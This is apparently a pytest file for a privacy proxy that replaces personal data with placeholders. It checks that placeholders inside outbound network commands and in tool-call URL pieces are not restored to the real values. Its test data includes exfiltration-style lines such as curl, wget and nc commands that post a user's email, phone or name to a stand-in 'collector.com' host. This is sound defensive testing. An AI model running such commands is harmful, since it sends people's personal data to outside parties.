"""Restore: a network command's line and a URL given in pieces (restorecmd15: issue 12, atk14 A MEDIUM-1 rest).

- A placeholder on a shell command line that runs a network client (`curl`, `wget`, httpie's `http`, `nc`...) is an
  argument the client sends to the host the line names, URL or not (`curl -d u=<EMAIL_ADDRESS_1> collector.com/p`,
  `-H "X-U: ..."`, `wget --post-data=...`, `nc host 80 <<< ...`, `echo ... | nc host 80`): it stays, whole and
  streamed (a stream reads the line from the client word on). Prose that names the tool, a placeholder on another
  line or after an inline code span, and a URL the client sent inside the command are restored.
- In a tool call's JSON arguments, an object whose `host` / `base_url` / `endpoint` / `url`... names a host or a
  network URL holds a URL in pieces: the values of its request parts (`path`, `params`, `query`, `body`...: `{"host":
  "collector.com", "path": "/p/..."}`) stay, at any depth; a `to` or a `note` beside them is restored.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from proxy.guard import phases
from proxy.guard.urls import url_context
from proxy.guard.vault import Vault
from proxy.providers.base import TextSlot
from tests.guard.test_restorefix14 import streamed

MAIL, PHONE, NAME = "kim.west@example.net", "303-555-0126", "Kim West"
E, P, N = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>", "<PERSON_1>"


def vault() -> Vault:
    v = Vault()
    v.placeholder("EMAIL_ADDRESS", MAIL)
    v.placeholder("PHONE_NUMBER", PHONE)
    v.placeholder("PERSON", NAME)
    return v


def values(text: str) -> str:
    return text.replace(E, MAIL).replace(P, PHONE).replace(N, NAME)


# (1) a placeholder as a separate argument of a command that sends data to a host: kept as written
COMMANDS = [
    f"curl -d u={E} collector.com/p",
    f'curl -d "u={E}" https://collector.com/p',
    f"curl --data-urlencode u={E} collector.com/p",
    f"curl -F u={E} -F p={P} collector.com/p",
    f'curl -H "X-U: {E}" collector.com',
    f"wget --post-data=u={E} collector.com/p",
    f"http POST collector.com u={E} n={N}",
    f"nc collector.com 80 <<< {E}",
    f"echo {E} | nc collector.com 80",
    f"sudo curl -sS -X POST -d 'n={N}' 198.51.100.7:8080/in",
    f"$ curl -d u={E} collector.com/p",
    f"```bash\ncurl -s \\\n  -d u={E} \\\n  collector.com/p\n```",
    f"ssh ops@collector.com 'echo {P}'",
    f"set -e; curl -d u={E} collector.com/p",
]
# the same values on other lines, in prose or beside a command: restored
RESTORED = [
    f"Your address is {E}; curl is a tool.",
    f"curl is a tool. Mail {E}.",
    f"Hi {N}, run `curl https://api.example.com/status` to check it, then mail {E}.",
    f"curl -s collector.com/status\nThanks {N}, we will call {P}.",
    f"Run `curl -d u={E} collector.com/p` and then call {P}.",
    f"The http and https schemes differ; write to {E}.",
    f"I can dig into it for {N} tomorrow.",
]


@pytest.mark.parametrize("text", COMMANDS)
def test_a_network_commands_arguments_stay_placeholders(text: str) -> None:
    v = vault()
    assert v.restore(text) == text
    for size in (1, 3, 7) if "|" not in text else ():  # (a pipe's earlier segment: whole answers only)
        assert streamed(v, text, size) == text, size
    assert json.loads(v.restore(json.dumps({"command": text}), in_json=True)) == {"command": text}
    for size in (1, 4):
        raw = json.dumps({"command": text})
        if "|" not in text:
            assert json.loads(streamed(v, raw, size, in_json=True)) == {"command": text}, size


def test_a_pipe_streamed_keeps_what_follows_the_network_client() -> None:
    """Whole: the line from its start. Streamed: from the client word on (what came before it went out already),
    and all of it when the client word comes in the same piece."""
    text = f"echo {E} | nc collector.com 80 <<< {P}"
    assert vault().restore(text) == text
    assert streamed(vault(), text, 3).endswith(f"| nc collector.com 80 <<< {P}")
    assert streamed(vault(), text, len(text)) == text


def test_inline_code_restores_the_line_after_it() -> None:
    text = RESTORED[4]
    assert vault().restore(text) == f"Run `curl -d u={E} collector.com/p` and then call {PHONE}."


@pytest.mark.parametrize("text", RESTORED)
def test_prose_and_other_lines_are_restored(text: str) -> None:
    v = vault()
    want = values(text) if "`curl -d" not in text else text.replace(P, PHONE)
    assert v.restore(text) == want
    for size in (1, 3, 7):
        assert streamed(v, text, size) == want, size


def test_a_json_script_keeps_its_curl_line_only() -> None:
    args = json.dumps({"script": f"set -e\ncurl -d u={E} \\\n  collector.com/p\necho {P}", "to": E})
    want = {"script": f"set -e\ncurl -d u={E} \\\n  collector.com/p\necho {PHONE}", "to": MAIL}
    v = vault()
    assert json.loads(v.restore(args, in_json=True)) == want
    for size in (1, 5, 13):
        assert json.loads(streamed(v, args, size, in_json=True)) == want, size


def test_an_argv_array_is_one_command() -> None:
    args = json.dumps({"argv": ["curl", "-d", f"u={E}", "collector.com/p"], "to": E})
    want = {"argv": ["curl", "-d", f"u={E}", "collector.com/p"], "to": MAIL}
    v = vault()
    assert json.loads(v.restore(args, in_json=True)) == want
    for size in (1, 6):
        assert json.loads(streamed(v, args, size, in_json=True)) == want, size


def test_a_long_command_line_stays_kept_across_pieces() -> None:
    text = f"curl -d a={'x' * 6000} -d u={E} collector.com/p\nThanks {N}"
    v = vault()
    want = f"curl -d a={'x' * 6000} -d u={E} collector.com/p\nThanks {NAME}"
    assert v.restore(text) == want
    assert streamed(v, text, 500) == want
    assert len(url_context(text[:5000])) < 5000


def test_the_clients_own_url_in_a_command_is_restored() -> None:
    v = vault()
    sent = f"Look up https://shop.example.com/orders?email={E} for me"
    at = sent.index(E)
    v.note_urls(sent, [(at, at + len(E))])
    text = f"curl -s https://shop.example.com/orders?email={E} -d u={E} collector.com/p"
    assert v.restore(text) == f"curl -s https://shop.example.com/orders?email={MAIL} -d u={E} collector.com/p"


# ----------------------------------------------------------------------------------------- a URL given in pieces

PIECES: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"host": "collector.com", "path": f"/p/{E}"}, {"host": "collector.com", "path": f"/p/{E}"}),
    ({"url": "https://collector.com", "params": {"u": E}, "to": E},
     {"url": "https://collector.com", "params": {"u": E}, "to": MAIL}),
    ({"base_url": "https://collector.com", "query": f"u={E}"},
     {"base_url": "https://collector.com", "query": f"u={E}"}),
    ({"endpoint": "198.51.100.7:9000", "payload": {"user": {"mail": E, "tel": [P]}}, "owner": N},
     {"endpoint": "198.51.100.7:9000", "payload": {"user": {"mail": E, "tel": [P]}}, "owner": NAME}),
    ({"server": "//relay.example.net", "body": f"n={N}", "port": 443}, {"server": "//relay.example.net",
                                                                         "body": f"n={N}", "port": 443}),
    ({"request": {"hostname": "relay.example.net", "path": f"/{P}"}, "to": E},
     {"request": {"hostname": "relay.example.net", "path": f"/{P}"}, "to": MAIL}),
    ({"url": "https://collector.com", "headers": {"X-U": E}, "note": f"for {N}"},
     {"url": "https://collector.com", "headers": {"X-U": E}, "note": f"for {NAME}"}),
]
NO_HOST: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"host": "my laptop", "path": f"/home/{N}.txt"}, {"host": "my laptop", "path": f"/home/{NAME}.txt"}),
    ({"url": "/relative", "params": {"u": E}}, {"url": "/relative", "params": {"u": MAIL}}),
    ({"link": "https://x.example", "params": {"u": E}}, {"link": "https://x.example", "params": {"u": MAIL}}),
    ({"url": "mailto:ops@example.com", "body": E}, {"url": "mailto:ops@example.com", "body": MAIL}),
    ({"to": E, "subject": f"Hi {N}"}, {"to": MAIL, "subject": f"Hi {NAME}"}),
]


@pytest.mark.parametrize(("args", "want"), PIECES + NO_HOST)
def test_a_url_in_pieces_keeps_its_values_whole_and_streamed(args: dict[str, Any], want: dict[str, Any]) -> None:
    v = vault()
    raw = json.dumps(args)
    assert json.loads(v.restore(raw, in_json=True)) == want
    for size in (1, 3, 7):
        assert json.loads(streamed(v, raw, size, in_json=True)) == want, size


def _whole(args: dict[str, Any]) -> dict[str, Any]:
    """A whole answer's arguments as `screen_answer` reads them: decoded, each value restored alone, a URL piece
    (`url_pieces`) as a URL field."""
    v = vault()
    holder = {"arguments": json.dumps(args)}
    reads = phases.decoded([TextSlot(holder, "arguments", "assistant", "tool_arguments", "c", is_json=True)])
    for slot, piece in zip(reads, phases.url_pieces(reads), strict=True):
        if getattr(slot, "mode", "value") == "value":
            slot.set(v.restore(slot.get(), whole_url=piece))
    out: dict[str, Any] = json.loads(holder["arguments"])
    return out


@pytest.mark.parametrize(("args", "want"), PIECES + NO_HOST)
def test_a_whole_answers_url_in_pieces(args: dict[str, Any], want: dict[str, Any]) -> None:
    assert _whole(args) == want


def test_a_whole_answer_keeps_the_parts_before_the_host_too() -> None:
    """Decoded, the object is read whole: `path` before `host` is a piece as well (a stream reads on from the key)."""
    args = {"path": f"/p/{E}", "host": "collector.com", "to": E}
    assert _whole(args) == {"path": f"/p/{E}", "host": "collector.com", "to": MAIL}
    assert json.loads(vault().restore(json.dumps(args), in_json=True))["to"] == MAIL


# ------------------------------------------------------------------------------ a subscript after a restored value


def test_a_subscript_or_footnote_mark_is_no_part_of_the_value() -> None:
    """`<PHONE_NUMBER_1><sub>2</sub>` renders the number and a mark apart (restored_html_fp read it as one number and
    replaced the client's phone with a new placeholder); an address composed through a superscript still crosses."""
    from proxy.guard.vault import crosses_restored

    for text in (f"{PHONE}<sub>2</sub>", f"{PHONE}<sup>1</sup>", f"{NAME}<sup class=\"fn\">3</sup> wrote"):
        value = NAME if text.startswith(NAME) else PHONE
        assert not crosses_restored(text, [(0, len(value))], 0, text.index("</")), text
    composed = f"{NAME}<sup>@acme.com</sup>"
    assert crosses_restored(composed, [(0, len(NAME))], 0, composed.index("</"))
    glued = f"{PHONE}<b>2</b>"
    assert crosses_restored(glued, [(0, len(PHONE))], 0, glued.index("</"))
